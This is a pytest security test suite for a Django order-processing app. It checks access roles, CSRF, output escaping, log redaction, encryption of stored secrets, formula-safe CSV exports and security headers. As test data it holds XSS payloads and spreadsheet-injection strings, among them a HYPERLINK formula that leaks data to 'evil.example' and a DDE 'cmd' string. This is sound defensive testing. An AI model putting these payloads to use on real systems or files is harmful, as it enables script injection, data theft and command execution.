"""Security beyond the anonymous walk of tests/test_security_urls.py: roles on every API endpoint,
CSRF on every form, buyer text shown as text, secrets out of logs and out of the database in
clear, formula-safe exports, security headers everywhere."""

from __future__ import annotations

import csv
import io
import logging
import os

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from orderpilot.channels.base import Buyer, PostalAddress
from orderpilot.channels.services import import_order, poll_channel
from orderpilot.core.jobs import run_due_work
from orderpilot.core.models import SystemSetting
from orderpilot.invoicing.tests.conftest import COMPANY
from orderpilot.orders.models import HoldRule, SalesOrder
from orderpilot.shipping.services import record_tracking
from orderpilot.tickets.models import Ticket

from ..test_security_urls import ALL_URLS, ALLOWED, row_counts, url_kind
from .conftest import all_stored_text

pytestmark = pytest.mark.django_db

API_URLS = [url for url, _ in ALL_URLS if url_kind(url) == "api" and url not in ALLOWED and url != "/api/schema/"]
FORM_URLS = [url for url, _ in ALL_URLS if url_kind(url) != "api" and url != "/admin/login/"]


# --- roles on the API --------------------------------------------------------------------------------


def test_the_api_walk_covers_the_data_endpoints():
    for url in ("/api/orders/", "/api/orders/1/", "/api/orders/1/release/", "/api/customers/", "/api/tickets/",
                "/api/tickets/1/resolve/", "/api/invoices/x/pdf", "/api/invoices/x/xrechnung"):
        assert url in API_URLS


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize("url", API_URLS)
def test_a_signed_in_user_without_a_role_gets_403_from_every_api_endpoint(client, nobody, url, method):
    # given
    client.force_login(nobody)
    before = row_counts()
    # when
    response = client.get(url) if method == "GET" else client.post(url, {}, content_type="application/json")
    # then
    assert response.status_code == 403
    assert response.json() == {"detail": "the operator role is needed"}
    assert row_counts() == before


def test_releasing_and_resolving_need_the_operator_role(client, nobody, operator, held_order):
    # given: a held order with its ticket
    order, ticket = held_order
    # when: a signed-in user without a role tries both
    client.force_login(nobody)
    release = client.post(f"/api/orders/{order.pk}/release/", {}, content_type="application/json")
    resolve = client.post(f"/api/tickets/{ticket.pk}/resolve/", {"requeue": True}, content_type="application/json")
    # then: refused, nothing changed
    assert (release.status_code, resolve.status_code) == (403, 403)
    order.refresh_from_db()
    ticket.refresh_from_db()
    assert (order.status, ticket.status) == ("on_hold", "open")
    # when: an operator does it
    client.force_login(operator)
    assert client.get(f"/api/orders/{order.pk}/").status_code == 200
    assert client.post(f"/api/orders/{order.pk}/release/", {}, content_type="application/json").status_code == 200
    order.refresh_from_db()
    assert order.status != "on_hold"


def test_a_drf_token_of_a_user_without_a_role_reads_nothing(nobody):
    from rest_framework.authtoken.models import Token
    from rest_framework.test import APIClient

    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=nobody).key}")
    assert api.get("/api/orders/").status_code == 403
    nobody.groups.add(Group.objects.get(name="operator"))
    assert APIClient(HTTP_AUTHORIZATION=api._credentials["HTTP_AUTHORIZATION"]).get("/api/orders/").status_code == 200


# --- CSRF ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", FORM_URLS)
def test_every_page_refuses_a_post_without_the_csrf_token(operator, url):
    # given: an operator's browser session, and a forged form posted from elsewhere (no token)
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(operator)
    before = row_counts()
    # when
    response = browser.post(url, {"requeue": "1", "role": "admin", "q": "x"})
    # then
    assert response.status_code == 403
    assert b"CSRF" in response.content
    assert row_counts() == before


@pytest.mark.parametrize("url", ["/api/orders/1/release/", "/api/tickets/1/resolve/"])
def test_api_writes_with_a_session_need_the_csrf_token(operator, url):
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(operator)
    response = browser.post(url, {}, content_type="application/json")
    assert response.status_code == 403
    assert "CSRF" in response.json()["detail"]


# --- buyer text is shown as text ---------------------------------------------------------------------

NOTE = '<script>alert("note")</script>'
NAME = "<img src=x onerror=alert(1)>"
GIFT = '"><svg onload=alert(2)>'
STREET = "<b>Heide</b>straße 17"


@pytest.fixture
def hostile_order(channel, products, warehouse, channel_order_factory):
    HoldRule.objects.create(code="buyer-note", when="buyer_note")
    order = import_order(
        channel,
        channel_order_factory(
            external_id="SHOP-XSS-1",
            buyer_note=NOTE,
            gift_message=GIFT,
            buyer=Buyer(email="xss@example.com", name=NAME),
            shipping_address=PostalAddress(name=NAME, street=STREET, postal_code="51147", city="Köln", country="DE"),
        ),
    ).order
    run_due_work(until_idle=True)
    order.refresh_from_db()
    return order


def test_cockpit_pages_show_buyer_markup_as_text(client, operator, hostile_order):
    client.force_login(operator)
    ticket = Ticket.objects.get(order=hostile_order)
    pages = {
        "order": f"/orders/{hostile_order.pk}/",
        "board": "/?q=SHOP-XSS-1",
        "board by name": "/?q=onerror",
        "customer": f"/customers/{hostile_order.customer_id}/",
        "queue": "/queue/",
        "attention": "/attention/",
        "tickets": "/tickets/",
        "ticket": f"/tickets/{ticket.pk}/",
    }
    shown = {}
    for name, url in pages.items():
        response = client.get(url)
        assert response.status_code == 200, name
        html = response.content.decode()
        for raw in (NOTE, NAME, GIFT, STREET, "<script>alert", "<img src=x", "<svg onload"):
            assert raw not in html, f"{raw!r} unescaped on the {name} page"
        shown[name] = html
    assert "&lt;script&gt;alert(&quot;note&quot;)&lt;/script&gt;" in shown["order"]
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown["customer"]
    assert "&lt;b&gt;Heide&lt;/b&gt;straße 17" in shown["order"]
    assert "&lt;script&gt;" in shown["ticket"]


def test_the_api_returns_buyer_markup_as_json_text(client, operator, hostile_order):
    client.force_login(operator)
    response = client.get(f"/api/orders/{hostile_order.pk}/")
    assert response["Content-Type"] == "application/json"
    assert response.json()["customer"]["name"] == NAME


# --- secrets out of the logs ---------------------------------------------------------------------------

CLIENT_SECRET = "amzn1.oa2-cs.v1.0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
REFRESH_TOKEN = "Atzr|IwEBIHiddenRefreshToken-0123456789"


@pytest.fixture
def sim_with_real_looking_credentials():
    import threading

    from werkzeug.serving import make_server

    from orderpilot.channels.amazon.tests.conftest import Sim
    from orderpilot.sandbox.amazon.app import create_app

    app = create_app(relaxed=True, generate_every=0, client_secret=CLIENT_SECRET, refresh_token=REFRESH_TOKEN)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    sim = Sim(f"http://127.0.0.1:{server.server_port}")
    sim.app = app
    yield sim
    sim.http.close()
    server.shutdown()
    server.server_close()
    thread.join(timeout=5)


@pytest.fixture
def console_log():
    """What the configured console handler writes, with every logger (the SP-API library's too) at DEBUG."""
    import orderpilot.channels.amazon.gateway  # noqa: F401 - the library sets its own level on import

    handler = next(h for h in logging.getLogger().handlers if h.get_name() == "console")
    buffer = io.StringIO()
    previous_stream = handler.setStream(buffer)
    names = ["", "sp_api", "sp_api.base.client", "sp_api.auth.access_token_client", "httpx", "httpcore",
             "orderpilot", "werkzeug"]
    levels = {name: logging.getLogger(name).level for name in names}
    for name in names:
        logging.getLogger(name).setLevel(logging.DEBUG)
    yield buffer
    for name, level in levels.items():
        logging.getLogger(name).setLevel(level)
    handler.setStream(previous_stream)


def test_an_amazon_poll_at_debug_logs_no_secret_or_token(sim_with_real_looking_credentials, console_log, products,
                                                        warehouse):
    from sp_api.auth import access_token_client

    from orderpilot.channels.models import Channel
    from orderpilot.channels.services import queue_shipment_confirmation
    from orderpilot.sandbox.amazon.auth import DEFAULT_CLIENT_ID

    sim = sim_with_real_looking_credentials
    access_token_client.cache.clear()
    channel = Channel.objects.create(
        code="amazon-de", kind="amazon", endpoint=sim.url,
        settings={"token_endpoint": f"{sim.url}/auth/o2/token", "marketplace_ids": ["A1PA6795UKMFR9"]},
        secrets={"client_id": DEFAULT_CLIENT_ID, "client_secret": CLIENT_SECRET, "refresh_token": REFRESH_TOKEN},
    )
    order_id = sim.add_order()

    # when: a poll, the order's way to the warehouse, and its shipment confirmation to Amazon
    assert poll_channel(channel) == 1
    run_due_work(until_idle=True)
    order = SalesOrder.objects.get(external_id=order_id)
    package, _ = record_tracking(order.shipments.get(), tracking_number="00340434161234567890", carrier="DHL")
    from django.db import transaction

    with transaction.atomic():
        queue_shipment_confirmation(package)
    run_due_work(until_idle=True)
    # and a poll with a revoked secret
    access_token_client.cache.clear()
    Channel.objects.filter(pk=channel.pk).update(
        secrets={"client_id": DEFAULT_CLIENT_ID, "client_secret": CLIENT_SECRET + "0", "refresh_token": REFRESH_TOKEN}
    )
    channel.refresh_from_db()
    poll_channel(channel)

    # then: the library did log its requests (so a leak would show) ...
    text = console_log.getvalue()
    assert "Request Headers" in text
    assert "[redacted]" in text
    # ... but no secret and no access token the simulator issued
    issued = list(sim.app.tokens._tokens)
    assert issued  # the simulator handed out access tokens during the poll
    for secret in [CLIENT_SECRET, REFRESH_TOKEN, *issued, "Atza|"]:
        assert secret not in text
    channel.refresh_from_db()
    assert channel.last_poll_error  # the revoked secret was noticed ...
    assert CLIENT_SECRET not in channel.last_poll_error  # ... without quoting it


def test_the_log_filter_masks_credentials_in_messages_and_tracebacks():
    from orderpilot.core.logredact import RedactSecrets

    record = logging.LogRecord("x", logging.DEBUG, __file__, 1, "headers %s", ({"x-amz-access-token": "Atza|abc"},),
                               None)
    try:
        raise ValueError("login to ftp://ship:hunter2@127.0.0.1/in failed")
    except ValueError:
        import sys

        record.exc_info = sys.exc_info()
    RedactSecrets().filter(record)
    assert "Atza|abc" not in record.getMessage()
    assert "hunter2" not in record.exc_text


# --- secrets at rest -----------------------------------------------------------------------------------


def test_config_apply_stores_no_secret_in_clear(tmp_path, monkeypatch):
    # given: a configuration whose secrets come from the environment
    secrets = {
        "AMAZON_CLIENT_SECRET": CLIENT_SECRET,
        "AMAZON_REFRESH_TOKEN": REFRESH_TOKEN,
        "AMAZON_CLIENT_ID": "amzn1.application-oa2-client.0123456789",
        "FTP_PASSWORD": "ftp-Pa55word-never-in-clear",
        "IMAP_PASSWORD": "imap-Pa55word-never-in-clear",
        "FREIGHT_TOKEN": "freight-webhook-token-never-in-clear",
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    path = tmp_path / "config.toml"
    path.write_text(
        """
[[channels]]
code = "amazon-de"
kind = "amazon"
endpoint = "http://127.0.0.1:9101"
marketplace_ids = ["A1PA6795UKMFR9"]
client_id_env = "AMAZON_CLIENT_ID"
client_secret_env = "AMAZON_CLIENT_SECRET"
refresh_token_env = "AMAZON_REFRESH_TOKEN"

[[shippers]]
code = "dhl-3pl"
transport = { kind = "ftp", url = "ftp://ship@127.0.0.1:2121/outbox", password_env = "FTP_PASSWORD" }
format = "csv"
return_channel = { kind = "imap", url = "imap://ship@127.0.0.1:1143/INBOX", password_env = "IMAP_PASSWORD" }

[[shippers]]
code = "freight"
transport = { kind = "folder", path = "/tmp/freight" }
format = "json"
return_channel = { kind = "webhook", token_env = "FREIGHT_TOKEN" }
"""
    )
    # when
    call_command("config", "apply", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    # then: the database holds none of them in clear (the webhook token only as its SHA-256) ...
    stored = all_stored_text()
    for name, value in secrets.items():
        assert value not in stored, name
    # ... and the application can still use them
    from orderpilot.channels.models import Channel
    from orderpilot.shipping.models import Shipper

    assert Channel.objects.get().secrets["client_secret"] == CLIENT_SECRET
    assert Shipper.objects.get(code="dhl-3pl").transport["password"] == secrets["FTP_PASSWORD"]
    assert os.environ["FREIGHT_TOKEN"] not in str(Shipper.objects.get(code="freight").return_channel)


# --- formula-safe exports --------------------------------------------------------------------------------

FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
FORMULA_COMPANY = "+cmd|' /C calc'!A0"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _formula_cells(rows: list[list[str]]) -> list[str]:
    import re

    number = re.compile(r"[+-]?(?:[0-9][0-9.,]*|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not number.fullmatch(cell)]


def test_exports_of_a_customer_named_like_a_formula_are_neutralised(
    channel, products, warehouse, channel_order_factory, tmp_path
):
    # given: an order of a buyer whose name and company are spreadsheet formulas, shipped and invoiced
    SystemSetting.objects.update_or_create(key="company", defaults={"value": COMPANY})
    SystemSetting.objects.update_or_create(key="accounting", defaults={"value": {"consultant_number": 29098,
                                                                                  "client_number": 55003}})
    address = PostalAddress(name=FORMULA_NAME, company=FORMULA_COMPANY, street="@SUM(1+1) 17", postal_code="51147",
                            city="-2+3", country="DE")
    order = import_order(channel, channel_order_factory(
        external_id="SHOP-CSV-1", buyer=Buyer(email="formula@example.com", name=FORMULA_NAME, company=FORMULA_COMPANY),
        shipping_address=address,
    )).order
    run_due_work(until_idle=True)
    record_tracking(SalesOrder.objects.get(pk=order.pk).shipments.get(), tracking_number="00340434161094042557")
    run_due_work(until_idle=True)
    order.refresh_from_db()
    assert order.status == "invoiced"
    invoice = order.invoices.get()
    assert FORMULA_COMPANY in str(invoice.buyer)  # the invoice keeps the name as the buyer gave it
    today = timezone.localdate().isoformat()

    # when: both exports are written by the real command
    for fmt in ("csv", "datev"):
        call_command("export", "accounting", "--format", fmt, "--from", today, "--to", today,
                     "-o", str(tmp_path / f"{fmt}.csv"), stdout=io.StringIO())

    # then: the customer is in the files, but no cell would run as a formula
    plain = list(csv.reader(io.StringIO((tmp_path / "csv.csv").read_text(encoding="utf-8"))))
    datev = list(csv.reader(io.StringIO((tmp_path / "datev.csv").read_bytes().decode("cp1252")), delimiter=";"))
    assert any(FORMULA_COMPANY in cell for row in plain for cell in row)
    assert any(FORMULA_COMPANY[1:] in cell for row in datev for cell in row)
    assert _formula_cells(plain) == []
    assert _formula_cells(datev) == []


def test_datev_text_fields_are_neutralised_whatever_their_source():
    import datetime as dt
    from decimal import Decimal

    from orderpilot.payments.exports.bookings import Booking
    from orderpilot.payments.exports.datev import COLUMNS, booking_fields

    booking = Booking(
        document_type="invoice", document_key="RE-1", date=dt.date(2026, 11, 28), amount=Decimal("19.90"), side="S",
        account="10000", contra_account="4400", tax_key="", receipt="=RE-1", text="@SUM(A1:A9)",
        order_number="+1-2", country="-DE",
    )
    fields = dict(zip(COLUMNS, booking_fields(booking), strict=True))
    assert fields["Buchungstext"] == "\"'@SUM(A1:A9)\""
    assert fields["Belegfeld 1"] == "\"'=RE-1\""
    assert fields["Auftragsnummer"] == "\"'+1-2\""
    assert fields["Umsatz (ohne Soll/Haben-Kz)"] == "19,90"


# --- headers on every kind of answer ---------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/api/health/", "/api/orders/", "/does-not-exist/", "/login/"])
def test_security_headers_on_every_kind_of_answer(client, url):
    response = client.get(url)
    assert "default-src 'self'" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["X-Frame-Options"] == "DENY"


def test_login_attempts_are_limited_whatever_the_spelling_of_the_user_name(client, django_user_model):
    django_user_model.objects.create_user("erika", password="right-horse-battery-staple")
    spellings = ["erika", "Erika", "ERIKA", " erika", "erika "]
    statuses = [
        client.post("/login/", {"username": spellings[n % 5], "password": f"guess-{n}"},
                    REMOTE_ADDR=f"10.1.0.{n}").status_code
        for n in range(11)
    ]
    assert statuses[-1] == 429


# --- roles on every cockpit page --------------------------------------------------------------------------

#: pages a signed-in user without a role may use: leaving, and their own password
NO_ROLE_NEEDED = {"/logout/", "/account/password/", "/account/password/done/", "/i18n/setlang/"}
COCKPIT_URLS = [url for url, _ in ALL_URLS
                if url_kind(url) == "cockpit" and url not in ALLOWED and url not in NO_ROLE_NEEDED]


@pytest.mark.parametrize("url", COCKPIT_URLS)
def test_every_cockpit_page_refuses_a_user_without_a_role(client, nobody, url):
    # given
    client.force_login(nobody)
    before = row_counts()
    # when
    answers = {client.get(url).status_code, client.post(url, {"requeue": "1", "role": "admin"}).status_code}
    # then: refused (403), or the method is not served at all (405); never shown, never done
    assert answers <= {403, 405}
    assert 403 in answers
    assert row_counts() == before
